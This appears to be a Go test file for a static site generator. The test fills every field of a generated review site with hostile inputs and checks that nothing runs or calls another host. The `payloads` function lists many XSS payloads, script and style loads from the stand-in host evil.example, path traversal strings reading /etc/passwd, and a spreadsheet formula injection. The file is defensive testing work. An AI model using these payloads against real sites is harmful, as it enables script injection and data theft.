package cli

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"throughline/internal/browsertest"
)

// payloads are texts that are meant to become something else than text, by class. Each calls alert if it succeeds, or
// asks evil.example.
func payloads() map[string][]string {
	return map[string][]string{
		"tags": {`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
			`<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
			`<iframe srcdoc="<script>alert(1)</script>">`, `<iframe src="javascript:alert(1)">`,
			`<object data="javascript:alert(1)">`, `<embed src="//evil.example/x.swf">`,
			`<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
			`<link rel="stylesheet" href="//evil.example/x.css">`,
			`<style>@import "//evil.example/x.css"; body{background:url(//evil.example/)}</style>`,
			`<form action="//evil.example/"><button>x`, `<input autofocus onfocus=alert(1)>`,
			`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<body onload=alert(1)>`,
			`<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>`,
			`<template><script>alert(1)</script></template>`,
			`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<a href="javascript:alert(1)">x</a>`,
			`<x onclick=alert(1)>x`},
		"ends of elements": {`</title><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
			`</style><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
			`</main></body></html><script>alert(1)</script>`,
			`</a><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `--><script>alert(1)</script><!--`,
			`<!--><script>alert(1)</script>-->`, `<!-- --!><script>alert(1)</script>`,
			`<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`},
		"ends of attributes": {`" onmouseover="alert(1)" x="`, `' onmouseover='alert(1)' x='`,
			`x onmouseover=alert(1)`, "` onmouseover=`alert(1)`", `"><script>alert(1)</script>`,
			`'><script>alert(1)</script>`, `" style="background:url(//evil.example/)"`, `\" onmouseover=alert(1) x=\"`,
			`&quot; onmouseover=&quot;alert(1)`},
		"scripts": {`";alert(1);//`, `';alert(1);//`, "`;alert(1);//", `\";alert(1);//`, `${alert(1)}`,
			`{{alert(1)}}`, `{{.}}`, `{{template "x"}}`, "\u2028alert(1)\u2029", `*/alert(1)/*`, `__proto__`,
			`constructor`, `__f__function(){alert(1)}__f__`, `<!--<script>`,
			`\u003cscript\u003ealert(1)\u003c/script\u003e`, `&#60;script&#62;alert(1)&#60;/script&#62;`,
			`%3Cscript%3Ealert(1)%3C/script%3E`},
		"styles": {`red;background:url(//evil.example/)`, `expression(alert(1))`,
			`x}body{background:url(//evil.example/)`, `\3c script\3e alert(1)`},
		"links": {`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](&#106;avascript:alert(1))`,
			`[x](javascript&colon;alert(1))`, `[x](java&Tab;script:alert(1))`, `[x](<java` + "\t" +
				`script:alert(1)>)`, `[x](\javascript:alert(1))`,
			`<javascript:alert(1)>`, `![x](javascript:alert(1))`,
			`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
			`![x](data:image/svg+xml,<svg onload=alert(1)>)`, `[x](vbscript:msgbox(1))`, `[x](//evil.example/)`,
			`[x](/\evil.example/)`, `[x](\\evil.example)`,
			`![x](https://evil.example/x.png)`, `![x](//evil.example/x.png)`, `[x](blob:https://evil.example/1)`,
			`[x](file:///etc/passwd)`, `[x](view-source:javascript:alert(1))`,
			"[x][y]\n\n[y]: javascript:alert(1) \"t\"", `[x](https://example.org/"onmouseover="alert(1))`,
			`[x](https://example.org/ "\" onmouseover=\"alert(1)")`, `[[javascript:alert(1)]]`,
			`[[x|<script>alert(1)</script>]]`, `https://example.org/"><script>alert(1)</script>`,
			`www.example.org/<script>alert(1)</script>`},
		"Markdown": {"# x {onclick=alert(1) style=\"background:url(//evil.example/)\"}",
			"# x {#\"><script>alert(1)</script>}", "# x {.\"onclick=alert(1)}", "```\"onclick=alert(1)\nx\n```",
			"```html\n<script>alert(1)</script>\n```", "|a|<script>alert(1)</script>|\n|-|-|\n|b|\"onclick=alert(1)|",
			"a[^1]\n\n[^1]: <script>alert(1)</script>", "- [x] <script>alert(1)</script>",
			"~~<script>alert(1)</script>~~", "    <script>alert(1)</script>", "`<script>alert(1)</script>`",
			"<div>\n\n<script>alert(1)</script>\n\n</div>", "<scr<script>ipt>alert(1)</scr</script>ipt>"},
		"directions and others": {"\u202e>tpircs<", "\u2066\u2069", "\ufeff<script>alert(1)</script>",
			"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "﹤script﹥alert(1)﹤/script﹥",
			"<script\u00a0src=//evil.example>", "\x1b[31m\x1b]0;x\x07", "日本語<script>alert(1)</script>",
			"=cmd|' /C calc'!A0", "../../../../etc/passwd", "%2e%2e%2f", "a\u0000b", "\x7f\u0085"},
	}
}

// hostileSite says every payload in every field that there is.
func hostileSite(t testing.TB) (dir string, tried int) {
	t.Helper()
	dir = t.TempDir()
	write := func(p, data string) {
		full := filepath.Join(dir, filepath.FromSlash(p))
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.WriteFile(full, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	n := 0
	for _, class := range sortedClasses() {
		for _, p := range payloads()[class] {
			p = strings.ReplaceAll(p, "\x00", "\u0001") // a NUL in a file is an error of its own
			p = notComment(p)
			n++
			name := fmt.Sprintf("r%03d", n)
			tried += hostileReview(write, name, p)
		}
	}
	every := `"><script>alert(1)</script>' onclick=alert(1) </title> {{.}} </script>`
	write("throughline.yaml", "front_matter: foreign\nbase_url: https://reviews.example.org/\nrepository: "+
		"https://git.example.org/edit/\ntitle: "+quoted(every)+"\ndescription: "+quoted(every)+"\n")
	return dir, tried
}

// notComment keeps a payload from being a comment, which is cut or refused before anybody shows it (parse
// TestComments).
func notComment(p string) string { return strings.ReplaceAll(p, "<!--", "<! --") }

func sortedClasses() []string {
	var out []string
	for class := range payloads() {
		out = append(out, class)
	}
	slices.Sort(out)
	return out
}

func quoted(v any) string {
	data, _ := json.Marshal(v)
	return string(data)
}

// hostileReview writes a review, a theme, a page, a budget and files that hold a payload wherever they can.
func hostileReview(write func(p, data string), name, p string) int {
	dir := "content/reviews/" + name + "/"
	tag := p + " " + name // a name needs a letter
	item := func(more ...any) object {
		o := object{"title": p, "text": p, "themes": []string{tag}}
		for i := 0; i+1 < len(more); i += 2 {
			o[more[i].(string)] = more[i+1]
		}
		return o
	}
	file := strings.NewReplacer("/", "⁄", "\\", "_", "\x00", "", "\n", " ", "\x01", "").Replace(p)
	if len(file) > 100 || strings.Trim(file, ". ") == "" {
		file = "x"
	}
	files := map[string]string{
		"t" + file + ".csv": "time," + csvCell(p) + "\n2026-03-14T09:00:00Z,1\n2026-03-14T09:05:00Z," + csvCell(p) +
			"\n",
		"l" + file + ".log": p + "\n", "h" + file + ".html": p + "<script>alert(1)</script>",
		"n" + file + "n":    "<html><script>alert(1)</script>" + p,
		"s" + file + ".svg": `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><script>alert(1)</script><a href="javascript:alert(1)"><text>x</text></a><image href="https://evil.example/x.png"/></svg>`,
		"p" + file + ".png": string(withPNGText(p)),
	}
	var artifacts []object
	for f, data := range files {
		write(dir+f, data)
		artifacts = append(artifacts, item("file", f, "useful_for", p))
	}
	slices.SortFunc(artifacts, func(a, b object) int {
		return strings.Compare(a["file"].(string),
			b["file"].(string))
	})
	front := object{"title": p, "summary": p, "surprise": p, "date": "2026-03-14", "services": []string{tag},
		"teams": []string{tag}, "themes": []string{tag, name},
		"people": []object{{"role": p, "name": p}}, "detection": object{"by": "alert", "note": p},
		"impact": object{"users_percent": 3, "text": p},
		"contributors": []object{item("id", "c1"),
			item("evidence", []string{"https://example.org/\"onclick=alert(1)"})},
		"mitigators": []object{item("source", "design")}, "risks": []object{item("from", []string{"c1"})},
		"difficulties": []object{item("kind", "island-of-knowledge", "topic", p, "knowers", 1)},
		"theories":     []object{{"id": "t1", "claim": p, "held_by": p, "text": p, "themes": []string{tag}}},
		"artifacts":    artifacts, "questions": []object{{"ask": p, "of": p, "answer": p}},
		"followups": []object{item("owner", tag, "why", p, "href",
			"https://example.org/?\"><script>alert(1)</script>")},
		"takeaways": []object{{"text": p, "themes": []string{tag}}}, "related": []object{{"id": "r001", "how": p}},
		"budget":   []object{{"slo": "b" + name, "consumed": "3%", "counted": false, "reason": p}},
		"editions": object{"public": object{"title": p, "summary": p, "account": p}}, "timeline": "timeline.csv"}
	if name == "r001" {
		delete(front, "related")
	}
	write(dir+"index.md", quoted(front)+"\n"+p+"\n")
	write(dir+"timeline.csv", "at,lane,text,theory,marker\n2026-03-14 09:00,"+csvCell(p)+","+csvCell(p)+
		",t1:raises,started\n2026-03-14 09:05,"+csvCell(p)+","+csvCell(p)+",t1:supports,detected\n2026-03-14 10:05,"+
		csvCell(p)+","+csvCell(p)+",t1:rules-out,mitigated\n")
	write("content/themes/"+name+".md", quoted(object{"title": p, "claim": p, "ask": p})+"\n"+p+"\n")
	if name < "r012" {
		write("content/pages/"+name+".md", quoted(object{"title": p})+"\n"+p+"\n")
		write("content/budgets/"+name+".yaml",
			quoted(object{"apiVersion": "openslo/v1", "kind": "SLO", "metadata": object{"name": "b" + name,
				"displayName": p},
				"spec": object{"description": p, "service": p,
					"timeWindow": []object{{"duration": "28d", "isRolling": true}}, "budgetingMethod": "Occurrences",
					"objectives": []object{{"target": 0.99, "displayName": p}}}})+"\n")
		write("content/budgets/b"+name+".csv",
			"time,good,total\n2026-03-13T00:00:00Z,990,1000\n2026-03-14T00:00:00Z,999,1000\n")
	}
	return fieldsWith(front, p) + len(files) + 12
}

// fieldsWith counts the fields that hold a text.
func fieldsWith(v any, text string) (n int) {
	switch v := v.(type) {
	case string:
		if strings.Contains(v, text) {
			return 1
		}
	case []string:
		for _, s := range v {
			n += fieldsWith(s, text)
		}
	case []object:
		for _, o := range v {
			n += fieldsWith(o, text)
		}
	case object:
		for _, f := range v {
			n += fieldsWith(f, text)
		}
	}
	return n
}

func csvCell(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

// TestHostileTextsStayTexts holds that no payload in any field becomes an element, a handler, a style or an address
// of another host: every page is parsed as a browser would, every data file as what it is.
func TestHostileTextsStayTexts(t *testing.T) {
	t.Parallel()
	site, tried := hostileSite(t)
	dir := buildSite(t, site)
	n := 0
	for p, data := range published(t, dir) {
		n++
		switch path.Ext(p) {
		case ".html":
			checkPage(t, p, data)
		case ".json":
			if !json.Valid(data) {
				t.Errorf("%s is not JSON", p)
			}
		case ".xml", ".svg":
			checkXML(t, p, data)
		case ".htm", ".xhtml", ".mjs":
			t.Errorf("%s would run", p)
		}
		if strings.ContainsAny(p, "\\\x00\n") || path.Clean("/"+p) != "/"+p {
			t.Errorf("%q is no name for a file", p)
		}
	}
	t.Logf("payloads of %d classes in %d fields, %d files looked at", len(payloads()), tried, n)
}

// checkPage parses a page as a browser does and names what a text must not have become.
func checkPage(t *testing.T, p string, data []byte) {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	heads := 0
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "head":
			heads++
		case "script":
			if src, ok := attr(n, "src"); !ok || n.FirstChild != nil || !ownAddress(src) ||
				path.Ext(strings.Split(src, "?")[0]) != ".js" {
				t.Errorf("%s: a script: %s", p, outer(n))
			}
		case "style", "iframe", "frame", "object", "embed", "base", "applet", "math", "portal", "video", "audio":
			t.Errorf("%s: <%s>: %s", p, n.Data, outer(n))
		case "template": // holds the options of a chart, and nothing but text
			if c := n.FirstChild; c == nil || c.NextSibling != nil || c.Type != html.TextNode ||
				!json.Valid([]byte(c.Data)) {
				t.Errorf("%s: a template that is not JSON: %s", p, outer(n))
			}
		case "meta":
			if v, ok := attr(n, "http-equiv"); ok {
				t.Errorf("%s: <meta http-equiv=%q>", p, v)
			}
		}
		for _, a := range n.Attr {
			checkAttribute(t, p, n, a)
		}
	}
	if heads != 1 {
		t.Errorf("%s has %d heads", p, heads)
	}
}

func checkAttribute(t *testing.T, p string, n *html.Node, a html.Attribute) {
	t.Helper()
	switch key := strings.ToLower(a.Key); {
	case strings.HasPrefix(key, "on"), key == "style", key == "srcdoc", key == "background", key == "ping",
		strings.ContainsAny(key, "\"'<>`"):
		t.Errorf("%s: an attribute %s: %s", p, key, outer(n))
	case key == "href" && (n.Data == "a" || n.Data == "link" && isCanonical(n)):
		if u, err := url.Parse(a.Val); err != nil || !slices.Contains([]string{"", "http", "https", "mailto", "tel"},
			strings.ToLower(u.Scheme)) || u.Scheme == "" && !ownAddress(a.Val) && p != "404.html" {
			t.Errorf("%s: a link to %q", p, a.Val)
		}
	case key == "href", key == "src", key == "action", key == "formaction", key == "poster", key == "data",
		key == "xlink:href", key == "srcset":
		if !ownAddress(a.Val) && !strings.HasPrefix(a.Val, "data:image/svg+xml") && p != "404.html" {
			t.Errorf("%s: %s leads to %q: %s", p, key, a.Val, outer(n))
		}
	}
}

func isCanonical(n *html.Node) bool { rel, _ := attr(n, "rel"); return rel == "canonical" }

// ownAddress reports whether an address is of the site itself, as a browser understands it.
func ownAddress(address string) bool {
	u, err := url.Parse(address)
	return err == nil && u.Scheme == "" && u.Host == "" && !strings.HasPrefix(strings.ReplaceAll(u.Path, "\\", "/"),
		"/")
}

func outer(n *html.Node) string {
	var b strings.Builder
	html.Render(&b, n)
	return b.String()[:min(b.Len(), 200)]
}

// checkXML holds that a file is well-formed XML in which nothing runs.
func checkXML(t *testing.T, p string, data []byte) {
	t.Helper()
	for d := xml.NewDecoder(bytes.NewReader(data)); ; {
		tok, err := d.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Errorf("%s: %v", p, err)
			return
		}
		e, ok := tok.(xml.StartElement)
		if !ok {
			continue
		}
		if slices.Contains([]string{"script", "foreignObject", "a", "set", "animate", "iframe"}, e.Name.Local) {
			t.Errorf("%s: <%s>", p, e.Name.Local)
		}
		for _, a := range e.Attr {
			if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") || a.Name.Local == "href" &&
				strings.Contains(a.Value, ":") && path.Ext(p) == ".svg" {
				t.Errorf("%s: %s=%q", p, a.Name.Local, a.Value)
			}
		}
	}
}

// TestHostileInABrowser opens the pages and the artifacts of the hostile site in a browser in which an alert is
// noticed, from a server with the policy, and without any policy from disk. Nothing runs, the policy is never needed,
// no host is asked.
func TestHostileInABrowser(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("a browser test")
	}
	b := chromium.Tab(t)
	site, _ := hostileSite(t)
	dir := buildSite(t, site)
	served := browsertest.Serve(t, dir, "/")
	pages := pagesOf(t, dir)
	trap := filepath.Join(t.TempDir(), "trap.html")
	if err := os.WriteFile(trap, []byte("<html><script>alert(1)</script>"), 0o644); err != nil {
		t.Fatal(err)
	}
	if b.Open(t, "file://"+trap); !slices.Contains(b.Complaints(), "dialog: 1") {
		t.Fatal("an alert is not noticed, so none proves nothing")
	}
	opened := 0
	open := func(address string) {
		opened++
		b.Open(t, address)
		complain(t, b, address)
	}
	seen := 0
	for i, p := range pages {
		if manyAlike(p) {
			if seen++; seen%16 != 0 {
				continue
			}
		}
		open(served + escaped(p))
		if i%16 == 0 && p != "404.html" { // which links from the root of its host
			open("file://" + dir + "/" + escaped(p))
		}
	}
	for _, query := range []string{"?q=" + url.QueryEscape(`"><img src=x onerror=alert(1)>`),
		"?kind=" + url.QueryEscape(`'"><script>alert(1)</script>`),
		"#" + url.QueryEscape(`"><img src=x onerror=alert(1)>`), "?a=__proto__&b=constructor",
		"?t=javascript:alert(1)"} {
		for _, p := range []string{"reviews/index.html", "reviews/r001/index.html", "compare/index.html",
			"search/index.html", "themes/index.html", "mitigators/index.html"} {
			if slices.Contains(pages, p) {
				open(served + p + query)
			}
		}
	}
	for p := range published(t, dir) {
		if ext := path.Ext(p); strings.Contains(p, "/files/") && (ext == ".svg" || strings.Contains(p, "html") ||
			!strings.Contains(path.Base(p), ".")) && strings.HasPrefix(p, "reviews/r00") {
			open("file://" + dir + "/" + escaped(p))
		}
	}
	t.Logf("%d pages opened, nothing ran", opened)
}

// manyAlike tells pages of which each name makes one: they have the same template, and the names stand on other pages
// too.
func manyAlike(p string) bool {
	dir := path.Dir(path.Dir(p))
	return slices.Contains([]string{"services", "teams", "themes", "followups/owner", "followups"}, dir)
}

func escaped(p string) string {
	parts := strings.Split(p, "/")
	for i := range parts {
		parts[i] = url.PathEscape(parts[i])
	}
	return strings.Join(parts, "/")
}
